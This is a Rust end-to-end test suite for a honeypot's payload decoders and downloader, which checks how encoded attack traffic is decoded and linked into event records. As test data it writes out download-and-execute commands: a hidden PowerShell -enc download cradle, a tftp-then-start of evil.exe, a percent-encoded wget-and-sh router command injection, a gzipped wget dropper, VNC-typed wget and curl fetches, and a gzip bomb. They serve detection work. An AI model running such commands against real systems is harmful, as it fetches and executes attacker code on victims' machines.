//! End-to-end: the decoders (issue 5, points 2 and 3, and the VNC part of point 4).
//! Real clients in the attacker namespace (curl, nc) send encoded payloads to
//! honeytrap; each test asserts the real attack's event (the decoder's finding on
//! the payload, the virtual attack's id in `honeytrap.analysis.virtual_attacks`)
//! and the virtual attack's own event (`virtual`, `parent_id`, `decoder`, its
//! payload the decoded bytes). Every event is validated against
//! docs/event.schema.json by the harness. Also: a decoded copy that is encoded
//! again is decoded again (base64 of UTF-16LE, PowerShell's `-enc`), with the
//! second decoder's finding on the real attack, sourced to the first copy. And the
//! VNC part of the downloaders: a URL typed into an RFB session is fetched from a
//! real HTTP server (python3 http.server in the attacker namespace).

mod support;

use base64::Engine as _;
use serde_json::Value;
use std::io::Write as _;
use std::path::Path;
use std::process::Command;
use std::time::Duration;
use support::clients::{nc_once, payload};
use support::daemon::{run, wait_until};
use support::{base_config, require_root, Daemon, NetPair};

fn config() -> String {
    format!(
        "{}[limits]\nread_timeout = \"300ms\"\n\n[ports]\nresponses = 1\n",
        base_config(Path::new("@DATA@"), "8080, 4445, 5900", "")
    )
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

/// The real attack whose payload contains `needle`, waited for.
fn real_event(d: &Daemon, needle: &[u8]) -> Value {
    let mut found = None;
    wait_until(Duration::from_secs(15), || {
        found = d
            .events()
            .into_iter()
            .find(|e| e["honeytrap"]["virtual"] == false && contains(&payload(e), needle));
        found.is_some()
    });
    found.unwrap_or_else(|| {
        panic!(
            "no event with {:?}:\n{}",
            String::from_utf8_lossy(needle),
            d.log()
        )
    })
}

/// The virtual attack `decoder` made from `parent`, waited for, with its checks:
/// it is marked virtual, links to its parent, and the parent lists it.
fn virtual_event(d: &Daemon, parent: &Value, decoder: &str) -> Value {
    let id = parent["honeytrap"]["attack_id"].clone();
    let mut found = None;
    wait_until(Duration::from_secs(15), || {
        found = d
            .events()
            .into_iter()
            .find(|e| e["honeytrap"]["parent_id"] == id && e["honeytrap"]["decoder"] == decoder);
        found.is_some()
    });
    let v = found.unwrap_or_else(|| {
        panic!(
            "no virtual attack by {decoder} of {id}; parent: {parent:#}\n{}",
            d.log()
        )
    });
    assert_eq!(v["honeytrap"]["virtual"], true, "{v:#}");
    for (side, key) in [
        ("source", "ip"),
        ("source", "port"),
        ("destination", "port"),
    ] {
        assert_eq!(v[side][key], parent[side][key], "the parent's {side}.{key}");
    }
    let listed = parent["honeytrap"]["analysis"]["virtual_attacks"]
        .as_array()
        .unwrap();
    assert!(
        listed.contains(&v["honeytrap"]["attack_id"]),
        "parent lists {listed:?}, not {}",
        v["honeytrap"]["attack_id"]
    );
    v
}

/// The findings of `analyzer` on `e`.
fn findings(e: &Value, analyzer: &str) -> Vec<Value> {
    e["honeytrap"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["analyzer"] == analyzer)
        .cloned()
        .collect()
}

/// The one finding of `analyzer` on the payload of `e`.
fn payload_finding(e: &Value, analyzer: &str) -> Value {
    let f: Vec<_> = findings(e, analyzer)
        .into_iter()
        .filter(|f| f["source"]["kind"] == "payload")
        .collect();
    assert_eq!(f.len(), 1, "one {analyzer} finding on the payload: {e:#}");
    f[0].clone()
}

/// curl in the attacker namespace, with a time limit; must succeed.
fn curl(net: &NetPair, args: &[&str]) {
    let mut c = net.in_attacker("curl");
    c.args(["-sS", "-m", "5", "-o", "/dev/null"]).args(args);
    let out = run(c, Duration::from_secs(10));
    assert!(
        out.status.success(),
        "curl {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A real NTLM Negotiate message (type 1), as `curl --ntlm` sends it.
const NEGOTIATE: &str = "TlRMTVNTUAABAAAABoIIAAAAAAAAAAAAAAAAAAAAAAA=";

#[test]
fn base64_negotiate_blob_and_base64_of_utf16() {
    if !require_root() {
        return;
    }
    let net = NetPair::new("decb64");
    let mut d = Daemon::start(&net, &config());
    let url = format!("http://{}:8080/", net.hp_v4);
    curl(
        &net,
        &["-H", &format!("Authorization: Negotiate {NEGOTIATE}"), &url],
    );
    let e = real_event(&d, NEGOTIATE.as_bytes());
    let f = payload_finding(&e, "base64");
    assert_eq!(f["kind"], "base64");
    assert_eq!(f["meta"]["context"], "Negotiate");
    assert_eq!(f["meta"]["ntlmssp_type"], 1);
    assert_eq!(f["length"], NEGOTIATE.len());
    let at = f["offset"].as_u64().unwrap() as usize;
    assert_eq!(&payload(&e)[at..at + NEGOTIATE.len()], NEGOTIATE.as_bytes());
    let v = virtual_event(&d, &e, "base64");
    let blob = base64::engine::general_purpose::STANDARD
        .decode(NEGOTIATE)
        .unwrap();
    assert_eq!(payload(&v), blob);
    assert!(payload(&v).starts_with(b"NTLMSSP\0"));

    // PowerShell -enc: base64 of UTF-16LE. Decoded twice: base64, then utf16.
    let cmd = format!(
        "IEX (New-Object Net.WebClient).DownloadString('http://{}/p.ps1')",
        net.at_v4
    );
    let wide: Vec<u8> = cmd.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let enc = base64::engine::general_purpose::STANDARD.encode(&wide);
    let line = format!("powershell.exe -nop -w hidden -enc {enc}\r\n");
    nc_once(&net, &net.hp_v4, 4445, line.as_bytes());
    let e = real_event(&d, enc.as_bytes());
    let first = virtual_event(&d, &e, "base64");
    assert_eq!(payload(&first), wide);
    let second = virtual_event(&d, &e, "utf16");
    assert_eq!(payload(&second), cmd.as_bytes());
    assert_eq!(
        second["honeytrap"]["parent_id"],
        e["honeytrap"]["attack_id"]
    );
    // The utf16 finding was made on the first copy and is attached to the real
    // attack with that copy as its source, and to the copy's own event.
    let on_copy: Vec<_> = findings(&e, "utf16")
        .into_iter()
        .filter(|f| {
            f["source"]["kind"] == "virtual" && f["source"]["id"] == first["honeytrap"]["attack_id"]
        })
        .collect();
    assert_eq!(on_copy.len(), 1, "{e:#}");
    assert_eq!(findings(&first, "utf16").len(), 1, "{first:#}");
    assert!(d.stop().success());
}

#[test]
fn utf16_windows_command() {
    if !require_root() {
        return;
    }
    let net = NetPair::new("decu16");
    let mut d = Daemon::start(&net, &config());
    let cmd = format!("cmd /c tftp -i {} GET evil.exe & start evil.exe", net.at_v4);
    let wide: Vec<u8> = cmd.encode_utf16().flat_map(u16::to_le_bytes).collect();
    nc_once(&net, &net.hp_v4, 4445, &wide);
    let e = real_event(&d, &wide);
    let f = payload_finding(&e, "utf16");
    assert_eq!(f["kind"], "utf16le");
    assert_eq!(f["length"], wide.len());
    let v = virtual_event(&d, &e, "utf16");
    assert_eq!(payload(&v), cmd.as_bytes());
    assert!(d.stop().success());
}

#[test]
fn percent_encoded_query() {
    if !require_root() {
        return;
    }
    let net = NetPair::new("decpct");
    let mut d = Daemon::start(&net, &config());
    let url = format!(
        "http://{}:8080/cgi-bin/luci?cmd=cd+%2Ftmp%3B+wget+http%3A%2F%2F{}%2Fmips%3B+sh+mips",
        net.hp_v4, net.at_v4
    );
    curl(&net, &[&url]);
    let e = real_event(&d, b"/cgi-bin/luci?cmd=");
    let f = payload_finding(&e, "percent");
    assert_eq!(f["meta"]["escapes"], 7);
    let v = virtual_event(&d, &e, "percent");
    let want = format!(
        "GET /cgi-bin/luci?cmd=cd /tmp; wget http://{}/mips; sh mips HTTP/1.1\r\n",
        net.at_v4
    );
    assert!(
        payload(&v).starts_with(want.as_bytes()),
        "{}",
        String::from_utf8_lossy(&payload(&v))
    );
    assert!(d.stop().success());
}

#[test]
fn http_gzip_chunked_body_and_gzip_bomb() {
    if !require_root() {
        return;
    }
    let net = NetPair::new("decgz");
    let mut d = Daemon::start(&net, &config());
    let dir = tempfile::tempdir().unwrap();
    let script = format!(
        "#!/bin/sh\ncd /tmp || cd /var/run; wget http://{}/bins/x86; chmod +x x86; ./x86 gz\n",
        net.at_v4
    );
    let gz = dir.path().join("body.gz");
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(script.as_bytes()).unwrap();
    std::fs::write(&gz, enc.finish().unwrap()).unwrap();
    let url = format!("http://{}:8080/upload", net.hp_v4);
    let data = format!("@{}", gz.display());
    // Chunked transfer encoding too (curl frames the body itself).
    curl(
        &net,
        &[
            "--data-binary",
            &data,
            "-H",
            "Content-Encoding: gzip",
            "-H",
            "Transfer-Encoding: chunked",
            "-H",
            "Expect:",
            &url,
        ],
    );
    let e = real_event(&d, b"POST /upload");
    let f = payload_finding(&e, "http_body");
    assert_eq!(f["kind"], "gzip");
    assert_eq!(f["meta"]["truncated"], false);
    assert!(
        f["detail"].as_str().unwrap().contains("gzip+chunked"),
        "{f:#}"
    );
    let v = virtual_event(&d, &e, "http_body");
    assert_eq!(payload(&v), script.as_bytes());

    // A gzip bomb: 64 MiB of zeros in about 64 KiB; cut at 32 times the input.
    let bomb = dir.path().join("bomb.gz");
    let sh = format!("head -c 64M /dev/zero | gzip -c > {}", bomb.display());
    assert!(Command::new("sh")
        .args(["-c", &sh])
        .status()
        .unwrap()
        .success());
    let data = format!("@{}", bomb.display());
    curl(
        &net,
        &[
            "--data-binary",
            &data,
            "-H",
            "Content-Encoding: gzip",
            "-H",
            "Expect:",
            &format!("http://{}:8080/bomb", net.hp_v4),
        ],
    );
    let e = real_event(&d, b"POST /bomb");
    let f = payload_finding(&e, "http_body");
    assert_eq!(f["meta"]["truncated"], true, "{f:#}");
    assert!(f["detail"].as_str().unwrap().contains("cut"), "{f:#}");
    let length = |e: &Value| e["honeytrap"]["payload"]["length"].as_u64().unwrap();
    let v = virtual_event(&d, &e, "http_body");
    assert_eq!(length(&v), length(&e) * 32, "cut at max_ratio × input");
    assert!(payload(&v).iter().all(|&b| b == 0));
    assert!(d.stop().success());
}

/// One key pressed and released.
fn key(out: &mut Vec<u8>, sym: u32) {
    for down in [1u8, 0] {
        out.extend([4, down, 0, 0]);
        out.extend(sym.to_be_bytes());
    }
}

/// The client's side of an RFB 3.8 session, byte by byte: version, security None,
/// ClientInit (shared), SetPixelFormat, SetEncodings, an update request, a pointer
/// move. Typed and pasted text follow.
fn rfb_session_start() -> Vec<u8> {
    let mut s = b"RFB 003.008\n".to_vec();
    s.extend([1, 1]);
    s.extend([
        0, 0, 0, 0, 32, 24, 0, 1, 0, 255, 0, 255, 0, 255, 16, 8, 0, 0, 0, 0,
    ]);
    s.extend([2, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 1]);
    s.extend([3, 0, 0, 0, 0, 0, 4, 0, 3, 0]);
    s.extend([5, 0, 0, 10, 0, 20]);
    s
}

fn type_text(s: &mut Vec<u8>, text: &str) {
    for c in text.chars() {
        key(s, if c == '\n' { 0xff0d } else { c as u32 });
    }
}

#[test]
fn vnc_typed_and_pasted_text() {
    if !require_root() {
        return;
    }
    let net = NetPair::new("decvnc");
    let mut d = Daemon::start(&net, &config());
    let mut s = rfb_session_start();
    let typed = format!("wget http://{}/vnc.exe", net.at_v4);
    type_text(&mut s, &typed);
    key(&mut s, 0xff0d); // Return
    type_text(&mut s, "ftq");
    key(&mut s, 0xff08); // BackSpace
    type_text(&mut s, "p\n");
    let pasted = format!("curl -O http://{}/paste.sh", net.at_v4);
    s.extend([6, 0, 0, 0]);
    s.extend((pasted.len() as u32).to_be_bytes());
    s.extend(pasted.as_bytes());
    nc_once(&net, &net.hp_v4, 5900, &s);
    let e = real_event(&d, b"RFB 003.008\n");
    let f = payload_finding(&e, "vnc");
    assert_eq!(f["kind"], "rfb");
    assert_eq!(f["meta"]["security"], "none");
    assert_eq!(f["meta"]["pastes"], 1);
    let v = virtual_event(&d, &e, "vnc");
    assert_eq!(
        String::from_utf8(payload(&v)).unwrap(),
        format!("{typed}\nftp\n{pasted}")
    );
    assert!(d.stop().success());
}

#[test]
fn vnc_typed_url_is_downloaded() {
    if !require_root() {
        return;
    }
    assert!(
        Path::new("/usr/bin/python3").exists(),
        "python3 is needed for the HTTP server"
    );
    let net = NetPair::new("decvncdl");
    let served = tempfile::tempdir().unwrap();
    let sample: Vec<u8> = (0..5000u32).map(|i| (i * 31 % 251) as u8).collect();
    std::fs::write(served.path().join("vnc.bin"), &sample).unwrap();
    let log = served.path().join("http.log");
    let _server = net.background_attacker(&format!(
        "cd {} && exec /usr/bin/python3 -m http.server 8000 --bind {} 2>{}",
        served.path().display(),
        net.at_v4,
        log.display()
    ));
    support::clients::wait_listening(&net.attacker, "tcp", 8000, 1);
    let conf = format!("{}\n[downloads]\nallow = [\"10.77.0.0/16\"]\n", config());
    let mut d = Daemon::start(&net, &conf);
    let url = format!("http://{}:8000/vnc.bin", net.at_v4);
    let mut s = rfb_session_start();
    type_text(&mut s, &format!("cd /tmp; wget {url}; chmod +x vnc.bin\n"));
    nc_once(&net, &net.hp_v4, 5900, &s);
    let e = real_event(&d, b"RFB 003.008\n");
    let v = virtual_event(&d, &e, "vnc");
    let dl = e["honeytrap"]["downloads"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["url"] == url.as_str())
        .unwrap_or_else(|| panic!("no download of {url}: {e:#}"))
        .clone();
    assert_eq!(dl["error"], Value::Null, "{dl:#}");
    assert_eq!(dl["size"], sample.len());
    assert_eq!(
        dl["hashes"]["sha256"],
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&sample))
    );
    // Found on the typed text, not on the raw session.
    assert_eq!(dl["source"]["kind"], "virtual");
    assert_eq!(dl["source"]["id"], v["honeytrap"]["attack_id"]);
    assert_eq!(v["honeytrap"]["downloads"][0]["url"], url.as_str());
    let requests = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(requests.contains("GET /vnc.bin"), "server log: {requests}");
    assert!(d.stop().success());
}
